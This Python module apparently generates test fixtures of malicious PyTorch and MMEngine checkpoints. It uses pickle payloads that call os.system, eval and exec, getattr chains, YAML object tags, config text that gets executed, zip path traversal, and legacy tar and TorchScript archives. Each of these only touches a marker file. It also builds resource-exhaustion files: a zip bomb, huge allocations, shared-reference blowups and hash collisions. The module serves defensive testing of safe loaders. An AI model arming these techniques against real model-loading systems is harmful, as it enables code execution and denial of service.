"""Files that would do something when they are read carelessly; each leaves a mark where it succeeds."""

import codecs
import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections import Counter, OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch

WEIGHT = "image_encoder.backbone.conv1.weight"


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function: Callable, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def _touch(mark: Path) -> str:
    return f"touch {mark}"


def _content(poison: object) -> dict:
    """An ordinary checkpoint with something in it."""
    return {
        "meta": {"epoch": 1, "iter": 1, "extra": poison},
        "state_dict": OrderedDict({WEIGHT: torch.ones(2)}),
        "message_hub": {"log_scalars": {}, "runtime_info": {}, "resumed_keys": {}},
    }


def os_system(file: Path, mark: Path) -> None:
    torch.save(_content(Call(os.system, _touch(mark))), file)


def evaluate(file: Path, mark: Path) -> None:
    torch.save(_content(Call(eval, f"open({str(mark)!r}, 'w')")), file)


def execute(file: Path, mark: Path) -> None:
    torch.save(_content(Call(exec, f"open({str(mark)!r}, 'w')")), file)


def getattr_chain(file: Path, mark: Path) -> None:
    """Nothing is named but ``getattr`` and harmless classes."""
    module = Call(getattr, Call(getattr, HasGlobals.method, "__globals__"), "get")
    torch.save(_content([module, mark]), file)


class HasGlobals:
    """A class whose method leads to this module's names."""

    def method(self):
        """Nothing."""


def legacy_format(file: Path, mark: Path) -> None:
    torch.save(_content(Call(os.system, _touch(mark))), file, _use_new_zipfile_serialization=False)


def bare_pickle(file: Path, mark: Path) -> None:
    """Protocol 4, whose names stand on the stack."""
    file.write_bytes(pickle.dumps(_content(Call(os.system, _touch(mark))), protocol=4))


def in_tensor_hooks(file: Path, mark: Path) -> None:
    """In the arguments of a function that is allowed."""

    class Tensor:
        def __reduce__(self):
            storage = Call(os.system, _touch(mark))
            return torch._utils._rebuild_tensor_v2, (storage, 0, (1,), (1,), False, OrderedDict())

    torch.save(_content(Tensor()), file)


def config_text(file: Path, mark: Path) -> None:
    """Plain data altogether; MMEngine executes it when it resumes."""
    content = _content(None)
    content["state_dict"] = OrderedDict()
    text = f"open({str(mark)!r}, 'w').close()\nmodel = dict()\n"
    content["meta"].update(config=text, cfg=text)
    content["message_hub"]["runtime_info"]["cfg"] = text
    torch.save(content, file)


def yaml_tag(file: Path, mark: Path) -> None:
    file.write_text(f"state_dict: !!python/object/apply:os.system ['{_touch(mark)}']\n")


def object_array(file: Path, mark: Path) -> None:
    torch.save(_content(np.array([Call(os.system, _touch(mark))], dtype=object)), file)


def zip_path(file: Path, mark: Path) -> None:
    """A record that an extraction would put beside the file."""
    torch.save(_content(None), file)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(f"{file.stem}/../../{mark.name}", "extracted")


def tar_format(file: Path, mark: Path) -> None:
    """The oldest format of torch."""
    with tarfile.open(file, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Call(os.system, _touch(mark)), protocol=2)
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))


def torchscript(file: Path, mark: Path) -> None:
    """An archive that torch.load hands to torch.jit.load."""
    torch.save(_content(Call(os.system, _touch(mark))), file)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(f"{file.stem}/constants.pkl", pickle.dumps(Call(os.system, _touch(mark)), protocol=2))


EXECUTING = (
    os_system,
    evaluate,
    execute,
    getattr_chain,
    legacy_format,
    bare_pickle,
    in_tensor_hooks,
    config_text,
    yaml_tag,
    object_array,
    zip_path,
    tar_format,
    torchscript,
)


def compressed(file: Path) -> None:
    """512 MB of zeros in 512 kB."""
    torch.save(_content(None), file)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(f"{file.stem}/data/9", "w") as entry:
        for _ in range(32):
            entry.write(bytes(1 << 24))


def allocating(file: Path) -> None:
    """bytearray(number), which torch's own allowlist holds."""
    torch.save(_content(Call(bytearray, 1 << 36)), file)


def expanded(file: Path) -> None:
    """A tensor of 4 TB over one stored number."""
    torch.save({"state_dict": OrderedDict({WEIGHT: torch.ones(1).expand(1 << 40)})}, file)


def doubling(file: Path) -> None:
    """``encode(encode(…, 'hex'), 'hex')``: twice as long with each call, 8 GB after 30."""
    poison: object = "12345678"
    for _ in range(30):
        poison = Call(codecs.encode, poison, "hex")
    torch.save(_content(poison), file)


def copying(file: Path) -> None:
    """Copies of one list, of one text and of one dict, each a call of six bytes."""
    numbers, text = list(range(100_000)), "a" * 100_000
    ones = dict.fromkeys(numbers, 1)
    sets = [Call(set, numbers) for _ in range(2000)]
    texts = [Call(codecs.encode, text, "latin1") for _ in range(100_000)]
    counters = [Call(Counter, ones) for _ in range(2000)]
    torch.save(_content([sets, texts, counters]), file)


def reserving(file: Path) -> None:
    """A storage of so many bytes, by a call instead of a record."""
    torch.save(_content([Call(torch.UntypedStorage, 1 << 33), Call(torch.FloatStorage, 1 << 33)]), file)


def reserving_in_the_old_format(file: Path) -> None:
    """A storage of 8 GB in the index of a file of 1 kB."""
    torch.save(_content(torch.arange(1234, dtype=torch.uint8)), file, _use_new_zipfile_serialization=False)
    # BININT2 with the number of elements → BININT.
    file.write_bytes(file.read_bytes().replace(b"M" + struct.pack("<H", 1234), b"J" + struct.pack("<i", 1 << 30)))


def sharing(file: Path) -> None:
    """A list of two lists, which are one and the same, of two lists …: 2^32 to whoever walks through them."""
    content = _content(None)
    content["message_hub"]["runtime_info"]["extra"] = shared_list()
    torch.save(content, file)


def shared_list() -> list:
    node: list = ["x"]
    for _ in range(32):
        node = [node, node]
    return node


def shared_keys(file: Path) -> None:
    """The same of tuples as the key of a dict, whose hash takes hours."""
    node: tuple = ("x",)
    for _ in range(64):
        node = (node, node)
    torch.save(_content(None), file)
    content = pickle.dumps({"state_dict": "key"}, protocol=2)
    key = pickle.dumps(node, protocol=2)[2:-1]  # without the protocol and the end
    _replace_pickle(file, content.replace(b"X\x03\x00\x00\x00key", key))


def colliding_keys(file: Path) -> None:
    """Numbers that have one hash: a dict of them takes hours."""
    torch.save({"state_dict": {number * (2**61 - 1): None for number in range(2000)}}, file)


def crowded(file: Path) -> None:
    """Ten million empty lists, a byte each."""
    torch.save(_content(None), file)
    _replace_pickle(file, b"\x80\x02](" + b"]" * 10_000_000 + b"e.")


def _replace_pickle(file: Path, content: bytes) -> None:
    with zipfile.ZipFile(file) as archive:
        records = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(file, "w") as archive:
        for name, record in records.items():
            archive.writestr(name, content if name.endswith("data.pkl") else record)


FILLING = (
    compressed,
    allocating,
    expanded,
    doubling,
    copying,
    reserving,
    reserving_in_the_old_format,
    sharing,
    shared_keys,
    colliding_keys,
    crowded,
)
